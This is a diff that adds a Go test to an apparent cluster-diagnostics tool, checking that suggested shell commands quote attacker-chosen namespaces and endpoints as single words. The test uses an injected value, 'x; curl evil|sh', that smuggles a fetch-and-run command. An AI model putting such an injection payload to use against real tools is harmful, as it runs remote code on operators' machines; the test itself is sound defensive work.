@@ -751,6 +751,29 @@ func TestRefusalsByNamespace(t *testing.T) {
 	}
 }
 
+// What others than administrators chose is one word of the command that is shown: a machine writes
+// the namespace of its request, and whoever may write a HostCluster its endpoint.
+func TestCommandsAreWords(t *testing.T) {
+	const injected = "x; curl evil|sh #'\n"
+	s := healthy()
+	deny(&s.Requests[0])
+	s.Requests[0].Spec.Request = requestBy(t, infrav1.AgentUserPrefix+injected+":h9:key")
+	set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "False", infrav1.EndpointContestedReason, "another machine has it")
+	s.HostClusters[0].Spec.ControlPlaneEndpoint.Host = injected
+	const word = `'x; curl evil|sh #'\''` + "\ufffd'"
+	want := map[string]string{"EnrollmentRefused": "slipway host token h9 -n " + word, "AddressContested": "on a host of that network: arping " + word}
+	for _, f := range Diagnose(s).Findings {
+		if next, ok := want[f.Check]; ok && f.Next == next {
+			delete(want, f.Check)
+		} else {
+			t.Errorf("%s: next is %q, want %q", f.Check, f.Next, next)
+		}
+	}
+	if len(want) > 0 {
+		t.Errorf("not found: %v", want)
+	}
+}
+
 // A clone is refused while the host that it is a clone of gets its certificates; a machine
 // that a token brings is the host from then on.
 func TestRefusalOfAClone(t *testing.T) {
